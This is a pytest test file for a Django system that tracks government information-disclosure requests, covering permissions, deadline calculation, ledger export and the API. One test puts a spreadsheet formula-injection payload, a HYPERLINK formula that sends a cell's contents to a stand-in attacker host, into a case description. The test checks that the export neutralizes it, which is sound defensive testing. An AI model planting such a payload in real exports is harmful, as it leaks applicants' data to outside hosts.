from datetime import date

import pytest
from django.urls import reverse

from gongkai.inforequests.models import InfoRequest


@pytest.mark.django_db
class TestInbox:
    def test_overdue_case_appears_in_overdue_tab(self, make_case, as_user):
        old = make_case(day="2025-03-03", description="2024年度学校食堂检查报告")
        fresh = make_case(day=date.today().isoformat(), description="本周新收的申请内容")
        c = as_user("clerk")
        r = c.get(reverse("inforequests:index") + "?tab=overdue")
        assert r.status_code == 200
        body = r.content.decode()
        assert old.tracking_number in body
        assert fresh.tracking_number not in body
        assert "已超期" in body

    def test_anonymous_redirected(self, client, demo):
        r = client.get(reverse("inforequests:index"))
        assert r.status_code == 302 and "/login" in r["Location"]

    def test_dashboard_widget(self, make_case, as_user):
        make_case(day="2025-03-03")
        r = as_user("clerk").get(reverse("agencies:dashboard"))
        assert r.status_code == 200
        assert "超期1件" in r.content.decode()


@pytest.mark.django_db
class TestPermissions:
    def test_other_agency_clerk_gets_403(self, make_case, as_user):
        req = make_case()
        c = as_user("cityclerk")  # 青山市 government, not the education bureau
        assert c.get(reverse("inforequests:detail", args=[req.pk])).status_code == 403
        r = c.post(
            reverse("inforequests:act", args=[req.pk, "reply"]),
            {"reply-on": "2025-06-20", "reply-outcome": "disclosed"},
        )
        assert r.status_code == 403
        req.refresh_from_db()
        assert req.outcome is None

    def test_supervisor_can_view_not_act(self, make_case, as_user):
        req = make_case()
        c = as_user("supervisor")  # 公开办 of 青山市: the bureau is in its subtree
        r = c.get(reverse("inforequests:detail", args=[req.pk]))
        assert r.status_code == 200
        body = r.content.decode()
        assert req.tracking_number in body
        assert "11010519491231002X" not in body and "张三" not in body  # no personal data
        r = c.post(
            reverse("inforequests:act", args=[req.pk, "reply"]),
            {"reply-on": "2025-06-20", "reply-outcome": "disclosed"},
        )
        assert r.status_code == 403
        assert c.get(reverse("inforequests:ledger")).status_code == 200

    def test_extension_needs_head(self, make_case, as_user):
        req = make_case(day="2025-06-03")
        data = {"extension-on": "2025-06-20", "extension-workdays": "10", "extension-reason": "多"}
        url = reverse("inforequests:act", args=[req.pk, "extension"])
        assert as_user("clerk").post(url, data).status_code == 403
        r = as_user("head").post(url, data)
        assert r.status_code == 302
        req.refresh_from_db()
        assert req.events.filter(kind="extension_granted").count() == 1


@pytest.mark.django_db
class TestActionsThroughViews:
    def test_reply_flow_and_errors(self, make_case, as_user):
        req = make_case(day="2025-06-03")
        c = as_user("clerk")
        url = reverse("inforequests:act", args=[req.pk, "reply"])
        r = c.post(url, {"reply-on": "2025-06-20", "reply-outcome": "withheld.state_secret"})
        assert r.status_code == 400
        assert "须说明理由" in r.content.decode()
        req.refresh_from_db()
        assert req.status == "in_progress" and req.events.count() == 2
        r = c.post(url, {"reply-on": "2025-06-20", "reply-outcome": "disclosed"})
        assert r.status_code == 302
        req.refresh_from_db()
        assert req.outcome == "disclosed"
        page = c.get(reverse("inforequests:detail", args=[req.pk])).content.decode()
        assert "已于2025-06-20答复" in page

    def test_clock_words_on_case_page(self, make_case, as_user):
        req = make_case(day=date.today().isoformat())
        page = as_user("clerk").get(reverse("inforequests:detail", args=[req.pk]))
        assert "剩余" in page.content.decode()

    def test_intake_form(self, as_user, edu):
        c = as_user("clerk")
        data = {
            "channel": "in_person",
            "submitted_on": date.today().isoformat(),
            "applicant_type": "natural",
            "name": "李四",
            "id_type": "resident_id",
            "id_number": "11010519491231002X",
            "phone": "13900000000",
            "description": "2025年青山市中小学校舍安全检查情况",
            "form_requested": "paper",
            "delivery": "pick_up",
        }
        r = c.post(reverse("inforequests:intake"), data)
        assert r.status_code == 200
        body = r.content.decode()
        req = InfoRequest.objects.get()
        assert req.tracking_number in body and "查询码" in body
        assert req.received_on == date.today()
        bad = dict(data, id_number="123")
        r = c.post(reverse("inforequests:intake"), bad)
        assert r.status_code == 400
        assert "居民身份证号码无效" in r.content.decode()
        assert InfoRequest.objects.count() == 1

    def test_ledger_and_xlsx(self, make_case, as_user, users):
        from io import BytesIO

        from openpyxl import load_workbook

        from gongkai.inforequests import services

        req = make_case(day="2025-06-03")
        services.reply(req, users["clerk"], on=date(2025, 6, 20), outcome="disclosed")
        make_case(day="2025-07-01")
        c = as_user("clerk")
        r = c.get(reverse("inforequests:ledger") + "?outcome=disclosed")
        assert r.status_code == 200 and req.tracking_number in r.content.decode()
        r = c.get(reverse("inforequests:ledger") + "?export=xlsx")
        wb = load_workbook(BytesIO(b"".join(r.streaming_content) if r.streaming else r.content))
        rows = list(wb.active.iter_rows(values_only=True))
        assert len(rows) == 3
        flat = " ".join(str(v) for row in rows for v in row)
        assert "张三" in flat  # own agency staff see names
        assert "13800000000" not in flat and "11010519491231002X" not in flat
        # supervisors get no names
        r = as_user("supervisor").get(reverse("inforequests:ledger") + "?export=xlsx")
        wb = load_workbook(BytesIO(r.content))
        flat = " ".join(str(v) for row in wb.active.iter_rows(values_only=True) for v in row)
        assert "张三" not in flat and req.tracking_number in flat

    def test_xlsx_cells_never_run_as_formulas(self, make_case, as_user):
        """An applicant's description is exported as typed, never as a formula (OWASP CSV
        injection): gongkai.core.spreadsheet.safe_cell."""
        from io import BytesIO

        from openpyxl import load_workbook

        evil = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
        make_case(day="2025-06-03", description=evil)
        r = as_user("clerk").get(reverse("inforequests:ledger") + "?export=xlsx")
        wb = load_workbook(BytesIO(r.content))
        cells = [c for row in wb.active.iter_rows() for c in row]
        assert not [c for c in cells if c.data_type == "f"]
        assert "'" + evil in [c.value for c in cells]

    def test_table3_page(self, make_case, as_user):
        make_case(day="2025-06-03")
        r = as_user("clerk").get(reverse("inforequests:table3") + "?year=2025")
        assert r.status_code == 200
        assert "本年新收" in r.content.decode()


@pytest.mark.django_db
class TestPublicAndApi:
    def test_calculator_page(self, client, demo):
        url = reverse("inforequests_public:deadline_calculator")
        r = client.get(url + "?received=2025-09-26&as_of=2025-10-01")
        assert r.status_code == 200
        assert "2025-10-30" in r.content.decode()
        r = client.get(url + "?received=2025-13-01")
        assert r.status_code == 400 and "无法识别的日期" in r.content.decode()

    def test_deadline_api(self, client, demo):
        r = client.get(
            "/api/requests/deadline",
            {
                "received": "2025-06-03",
                "event": [
                    "amendment_requested:2025-06-06",
                    "amendment_received:2025-06-20",
                    "extension_granted:2025-07-10:20",
                ],
                "as_of": "2025-07-15",
            },
        )
        assert r.status_code == 200, r.content
        d = r.json()
        for k in ("due_on", "workdays_used", "workdays_left", "paused", "warnings"):
            assert k in d
        assert d["extension_workdays"] == 20
        r = client.get("/api/requests/deadline", {"received": "2025-06-03", "event": ["x:1"]})
        assert r.status_code == 400 and "计时事件" in r.json()["detail"]

    def test_submit_api(self, client, edu, settings):
        payload = {
            "agency_id": edu.pk,
            "applicant_type": "natural",
            "applicant": {
                "name": "王五",
                "id_type": "resident_id",
                "id_number": "11010519491231002X",
                "email": "w@example.com",
            },
            "description": "青山市2025年教育经费执行情况",
            "form_requested": "electronic",
            "delivery": "email",
        }
        r = client.post("/api/requests/", payload, content_type="application/json")
        assert r.status_code == 201, r.content
        d = r.json()
        req = InfoRequest.objects.get(tracking_number=d["tracking_number"])
        assert req.status == "to_confirm" and req.channel == "online"
        bad = dict(payload, applicant={"name": ""})
        r = client.post("/api/requests/", bad, content_type="application/json")
        assert r.status_code == 400 and "申请未提交" in r.json()["detail"]
        assert InfoRequest.objects.count() == 1

    def test_submit_rate_limit(self, client, edu, monkeypatch):
        from django.core.cache import cache

        cache.clear()
        monkeypatch.setenv("GONGKAI_SUBMIT_RATE_PER_MINUTE", "2")
        payload = {"agency_id": edu.pk, "applicant": {"name": ""}}
        codes = [
            client.post("/api/requests/", payload, content_type="application/json").status_code
            for _ in range(4)
        ]
        assert codes == [400, 400, 429, 429]
        cache.clear()


@pytest.mark.django_db
def test_submit_api_schema_errors_in_chinese(client, edu):
    r = client.post(
        "/api/requests/", {"agency_id": "abc", "applicant": 5}, content_type="application/json"
    )
    assert r.status_code == 422
    msg = r.json()["message"]
    assert "agency_id：应为整数" in msg
    r = client.post("/api/requests/", "{not json", content_type="application/json")
    assert r.status_code in (400, 422)
    assert InfoRequest.objects.count() == 0


@pytest.mark.django_db
def test_deadline_command(capsys):
    import json

    from django.core.management import call_command
    from django.core.management.base import CommandError

    call_command(
        "deadline",
        "--received", "2025-06-03",
        "--event", "amendment_requested:2025-06-06",
        "--event", "amendment_received:2025-06-20",
        "--event", "extension_granted:2025-07-10:20",
        "--as-of", "2025-07-15",
    )  # fmt: skip
    out = json.loads(capsys.readouterr().out)
    assert out["start_on"] == "2025-06-20" and out["extension_workdays"] == 20
    assert out["workdays_used"] + out["workdays_left"] == 40
    assert out["paused"] is False and isinstance(out["warnings"], list)
    with pytest.raises(CommandError, match="20个工作日"):
        call_command("deadline", "--received", "2025-06-03",
                     "--event", "extension_granted:2025-06-10:25")  # fmt: skip


@pytest.mark.django_db
def test_ledger_scope_and_subtree(make_case, demo, as_user):
    bureau = make_case(day="2025-06-03")
    city = make_case(agency=demo["青山市"], actor="cityclerk", day="2025-06-04")
    url = reverse("inforequests:ledger")
    body = as_user("cityclerk").get(url).content.decode()
    assert city.tracking_number in body and f'href="/staff/requests/{bureau.pk}/"' not in body
    sup = as_user("supervisor")
    city_pk = demo["青山市"].pk
    only = sup.get(url, {"agency": city_pk}).content.decode()
    assert f"/staff/requests/{city.pk}/" in only and f"/staff/requests/{bureau.pk}/" not in only
    both = sup.get(url, {"agency": city_pk, "subtree": "on"}).content.decode()
    assert f"/staff/requests/{city.pk}/" in both and f"/staff/requests/{bureau.pk}/" in both
    # the province supervisor sees it too; the township clerk does not
    assert f"/staff/requests/{bureau.pk}/" in as_user("province").get(url).content.decode()
    assert f"/staff/requests/{bureau.pk}/" not in as_user("township").get(url).content.decode()


@pytest.mark.django_db
def test_openapi_lists_the_endpoints(client):
    schema = client.get("/api/openapi.json").json()
    assert "/api/requests/" in schema["paths"] and "/api/requests/deadline" in schema["paths"]
    assert "post" in schema["paths"]["/api/requests/"]


@pytest.mark.django_db
def test_upload_limits(make_case, as_user):
    from django.core.files.uploadedfile import SimpleUploadedFile

    req = make_case(day="2025-06-03")
    c = as_user("clerk")
    url = reverse("inforequests:act", args=[req.pk, "note"])
    bad = SimpleUploadedFile("virus.exe", b"MZ...", content_type="application/octet-stream")
    r = c.post(url, {"note-text": "附件", "note-files": [bad]})
    assert r.status_code == 400 and "不支持的文件类型" in r.content.decode()
    ok = SimpleUploadedFile("scan.pdf", b"%PDF-1.4 test", content_type="application/pdf")
    r = c.post(url, {"note-text": "附件", "note-files": [ok]})
    assert r.status_code == 302
    a = req.attachments.get()
    assert a.name == "scan.pdf" and a.size == len(b"%PDF-1.4 test")
    # only staff who may view the case can download it
    assert c.get(reverse("inforequests:attachment", args=[a.pk])).status_code == 200
    assert (
        as_user("cityclerk").get(reverse("inforequests:attachment", args=[a.pk])).status_code == 403
    )


@pytest.mark.django_db
def test_table3_figures_link_to_their_cases(make_case, as_user, users):
    from gongkai.inforequests import services

    a = make_case(day="2025-06-03")
    b = make_case(day="2025-06-04")
    services.reply(a, users["clerk"], on=date(2025, 6, 20), outcome="withheld.state_secret",
                   reasons="属于国家秘密")  # fmt: skip
    c = as_user("clerk")
    page = c.get(reverse("inforequests:table3") + "?year=2025").content.decode()
    assert "row=withheld.state_secret&amp;column=natural" in page
    url = reverse("inforequests:ledger")
    got = c.get(url, {"year": 2025, "row": "withheld.state_secret", "column": "natural"})
    body = got.content.decode()
    assert f"/staff/requests/{a.pk}/" in body and f"/staff/requests/{b.pk}/" not in body
    got = c.get(url, {"year": 2025, "row": "carried_forward", "column": "total"}).content.decode()
    assert f"/staff/requests/{b.pk}/" in got and f"/staff/requests/{a.pk}/" not in got
    got = c.get(url, {"year": 2025, "row": "withheld"}).content.decode()  # group row
    assert f"/staff/requests/{a.pk}/" in got


@pytest.mark.django_db
def test_timeline_shows_amendment_items_and_outcome_not_payload_dicts(make_case, users, as_user):
    """payload.items in a template fell back to dict.items(): "dict_items([...])" on every event
    without an "items" key. Only a 补正 shows its items; a reply shows its outcome and basis."""
    from gongkai.inforequests import services

    req = make_case(day="2025-06-03")
    services.assign(req, users["clerk"], users["clerk"])
    services.request_amendment(req, users["clerk"], on=date(2025, 6, 6), items="请写明文件名称")
    services.record_amendment(req, users["clerk"], on=date(2025, 6, 9), note="已补正")
    services.reply(req, users["clerk"], on=date(2025, 6, 20), outcome="withheld.state_secret",
                   reasons="涉及国家秘密")  # fmt: skip
    body = as_user("clerk").get(reverse("inforequests:detail", args=[req.pk])).content.decode()
    assert "dict_items" not in body
    assert body.count("请写明文件名称") >= 1
    assert "补正事项：请写明文件名称" in body
    assert "办理结果：不予公开：属于国家秘密" in body
    assert "《政府信息公开条例》第十四条、第三十六条第（三）项" in body
